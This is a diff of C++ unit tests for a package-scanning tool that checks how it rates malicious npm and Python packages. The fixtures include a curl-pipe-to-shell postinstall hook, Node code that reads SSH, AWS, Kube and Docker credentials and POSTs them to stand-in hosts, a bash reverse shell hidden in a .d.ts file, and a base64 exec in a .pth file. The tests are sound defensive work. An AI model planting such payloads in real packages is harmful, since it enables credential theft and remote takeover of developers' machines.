@@ -12,7 +12,7 @@
 namespace airlock::analyze {
 namespace {
 
-using airlock::testing::TempTree;
+using airlock::testing::TempDir;
 
 const Engine& engine() {
   static std::shared_ptr<const Engine> e = [] {
@@ -28,10 +28,10 @@ const Engine& engine() {
   return *e;
 }
 
-TargetResult scan_dir(const TempTree& t) {
+TargetResult scan_dir(const TempDir& t) {
   artifact::TargetSpec spec;
-  spec.display_path = t.path();
-  spec.fs_path = t.path();
+  spec.display_path = t.str();
+  spec.fs_path = t.str();
   spec.kind = "directory";
   PackageScanner scanner(engine());
   return scanner.scan(spec);
@@ -50,7 +50,7 @@ Severity max_severity(const TargetResult& r) {
 }
 
 TEST(PackageScan, NameVersionAndKindFromPackageJson) {
-  TempTree t;
+  TempDir t;
   t.write("package.json", R"({"name":"left-pad-x","version":"1.2.3","main":"index.js"})");
   t.write("index.js", "module.exports = (s) => s;\n");
   auto r = scan_dir(t);
@@ -62,7 +62,7 @@ TEST(PackageScan, NameVersionAndKindFromPackageJson) {
 }
 
 TEST(PackageScan, PipeToShellInPostinstallIsCritical) {
-  TempTree t;
+  TempDir t;
   t.write("package.json",
           "{\n  \"name\": \"x\",\n  \"version\": \"1.0.0\",\n  \"scripts\": {\n"
           "    \"postinstall\": \"curl -s http://203.0.113.7/i.sh | sh\"\n  }\n}\n");
@@ -83,12 +83,12 @@ TEST(PackageScan, LifecycleScriptFilesAreInstallReachable) {
       "const fs = require('fs'); const https = require('https');\n"
       "const k = fs.readFileSync(require('os').homedir() + '/.ssh/id_rsa', 'utf8');\n"
       "https.request({host: '198.51.100.9', method: 'POST'}).end(k);\n";
-  TempTree install;
+  TempDir install;
   install.write("package.json",
                 R"({"name":"a","version":"1.0.0","scripts":{"postinstall":"node setup.js"}})");
   install.write("setup.js", "require('./lib/steal');\n");
   install.write("lib/steal.js", stealer);
-  TempTree runtime;
+  TempDir runtime;
   runtime.write("package.json", R"({"name":"a","version":"1.0.0"})");
   runtime.write("lib/steal.js", stealer);
   Severity at_install = max_severity(scan_dir(install));
@@ -98,7 +98,7 @@ TEST(PackageScan, LifecycleScriptFilesAreInstallReachable) {
 }
 
 TEST(PackageScan, ProseInMarkdownStaysLow) {
-  TempTree t;
+  TempDir t;
   t.write("package.json", R"({"name":"docs","version":"1.0.0"})");
   t.write("README.md",
           "Install with `curl -s https://example.invalid/i.sh | sh`.\n"
@@ -108,7 +108,7 @@ TEST(PackageScan, ProseInMarkdownStaysLow) {
 }
 
 TEST(PackageScan, BinShadowingCommonCommand) {
-  TempTree t;
+  TempDir t;
   t.write("package.json", R"({"name":"gitx","version":"1.0.0","bin":{"git":"cli.js"}})");
   t.write("cli.js", "#!/usr/bin/env node\n");
   TargetResult r = scan_dir(t);
@@ -116,13 +116,13 @@ TEST(PackageScan, BinShadowingCommonCommand) {
   ASSERT_NE(f, nullptr);
   EXPECT_EQ(f->category, Category::kBinaryShadowing);
   // The npm package itself provides npm: not shadowing.
-  TempTree npm;
+  TempDir npm;
   npm.write("package.json", R"({"name":"npm","version":"11.0.0","bin":{"npm":"bin/npm-cli.js"}})");
   EXPECT_EQ(find_rule(scan_dir(npm), "bin-shadows-command"), nullptr);
 }
 
 TEST(PackageScan, DependencyUrlSpecs) {
-  TempTree t;
+  TempDir t;
   t.write("package.json",
           R"({"name":"d","version":"1.0.0","dependencies":{"a":"http://203.0.113.5/a.tgz",)"
           R"("b":"git+https://example.invalid/b.git","c":"^1.0.0","e":"user/repo"}})");
@@ -139,10 +139,10 @@ TEST(PackageScan, DependencyUrlSpecs) {
 }
 
 TEST(PackageScan, UnparsableAndDeepPackageJson) {
-  TempTree bad;
+  TempDir bad;
   bad.write("package.json", "{not json");
   EXPECT_NE(find_rule(scan_dir(bad), "manifest-unparsable"), nullptr);
-  TempTree deep;
+  TempDir deep;
   deep.write("package.json", std::string(100000, '[') + std::string(100000, ']'));
   TargetResult r = scan_dir(deep);
   const Finding* f = find_rule(r, "manifest-unparsable");
@@ -151,7 +151,7 @@ TEST(PackageScan, UnparsableAndDeepPackageJson) {
 }
 
 TEST(PackageScan, PythonPthAndSitecustomize) {
-  TempTree t;
+  TempDir t;
   t.write("demo-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n\n");
   t.write("demo.pth", "import os; exec(__import__('base64').b64decode('cHJpbnQoMSk='))\n");
   t.write("sitecustomize.py", "print('hi')\n");
@@ -166,7 +166,7 @@ TEST(PackageScan, PythonPthAndSitecustomize) {
 }
 
 TEST(PackageScan, PthThatOnlyAddsAPathIsQuiet) {
-  TempTree t;
+  TempDir t;
   t.write("demo-1.0.dist-info/METADATA", "Name: demo\nVersion: 1.0\n\n");
   t.write("demo.pth", "/opt/demo/lib\n");
   auto r = scan_dir(t);
@@ -175,7 +175,7 @@ TEST(PackageScan, PthThatOnlyAddsAPathIsQuiet) {
 }
 
 TEST(PackageScan, SetupPyCmdclassInstallOverride) {
-  TempTree t;
+  TempDir t;
   t.write("setup.py",
           "from setuptools import setup\nfrom setuptools.command.install import install\n"
           "class Post(install):\n    def run(self):\n        install.run(self)\n\n"
@@ -189,7 +189,7 @@ TEST(PackageScan, SetupPyCmdclassInstallOverride) {
 }
 
 TEST(PackageScan, ConsoleScriptShadowing) {
-  TempTree t;
+  TempDir t;
   t.write("x-1.0.dist-info/METADATA", "Name: x\nVersion: 1.0\n\n");
   t.write("x-1.0.dist-info/entry_points.txt", "[console_scripts]\npip = x.cli:main\nxtool = x:m\n");
   auto r = scan_dir(t);
@@ -203,14 +203,14 @@ TEST(PackageScan, DeferredDeclarationFileIsScannedWhenInstallCodeLoadsIt) {
   // to require: a payload hidden in a .d.ts must still be found.
   const std::string shell =
       "require('child_process').exec('bash -i >& /dev/tcp/192.0.2.1/4444 0>&1');\n";
-  TempTree loaded;
+  TempDir loaded;
   loaded.write("package.json",
                R"({"name":"t","version":"1.0.0","scripts":{"postinstall":"node setup.js"}})");
   loaded.write("setup.js", "require('./types/index.d.ts');\n");
   loaded.write("types/index.d.ts", shell);
   EXPECT_GE(max_severity(scan_dir(loaded)), Severity::kHigh);
 
-  TempTree unreferenced;
+  TempDir unreferenced;
   unreferenced.write("package.json", R"({"name":"t","version":"1.0.0"})");
   unreferenced.write("types/index.d.ts", shell);
   EXPECT_LT(max_severity(scan_dir(unreferenced)), Severity::kMedium);
@@ -219,20 +219,23 @@ TEST(PackageScan, DeferredDeclarationFileIsScannedWhenInstallCodeLoadsIt) {
 TEST(PackageScan, CredentialHarvesterInImportTimeCodeIsHigh) {
   // No install script: the stealer runs when the package is imported (or its bin launched
   // by npx). One credential family next to a network call is what SDKs do; many is not.
-  TempTree t;
+  TempDir t;
   t.write("package.json", R"({"name":"h","version":"1.0.0","main":"index.js"})");
-  t.write("index.js",
-          "const fs = require('fs'), os = require('os'), https = require('https');\n"
-          "const files = ['.ssh/id_rsa', '.aws/credentials', '.kube/config', '.docker/config.json'];\n"
-          "const out = files.map((f) => { try { return fs.readFileSync(os.homedir() + '/' + f, 'utf8'); } catch (e) { return ''; } });\n"
-          "https.request({ host: 'collect.example.invalid', method: 'POST' }).end(JSON.stringify(out));\n");
+  t.write(
+      "index.js",
+      "const fs = require('fs'), os = require('os'), https = require('https');\n"
+      "const files = ['.ssh/id_rsa', '.aws/credentials', '.kube/config', '.docker/config.json'];\n"
+      "const out = files.map((f) => { try { return fs.readFileSync(os.homedir() + '/' + f, "
+      "'utf8'); } catch (e) { return ''; } });\n"
+      "https.request({ host: 'collect.example.invalid', method: 'POST' "
+      "}).end(JSON.stringify(out));\n");
   TargetResult r = scan_dir(t);
   const Finding* f = find_rule(r, "credential-harvester");
   ASSERT_NE(f, nullptr);
   EXPECT_EQ(f->severity, Severity::kHigh);
   EXPECT_EQ(f->category, Category::kCredentialAccess);
 
-  TempTree sdk;
+  TempDir sdk;
   sdk.write("package.json", R"({"name":"cloud-sdk","version":"1.0.0","main":"index.js"})");
   sdk.write("index.js",
             "const fs = require('fs'), os = require('os'), https = require('https');\n"
@@ -244,7 +247,7 @@ TEST(PackageScan, CredentialHarvesterInImportTimeCodeIsHigh) {
 }
 
 TEST(PackageScan, DirectoryWithoutManifest) {
-  TempTree t;
+  TempDir t;
   t.write("notes.txt", "hello\n");
   auto r = scan_dir(t);
   EXPECT_EQ(r.info.kind, "directory");
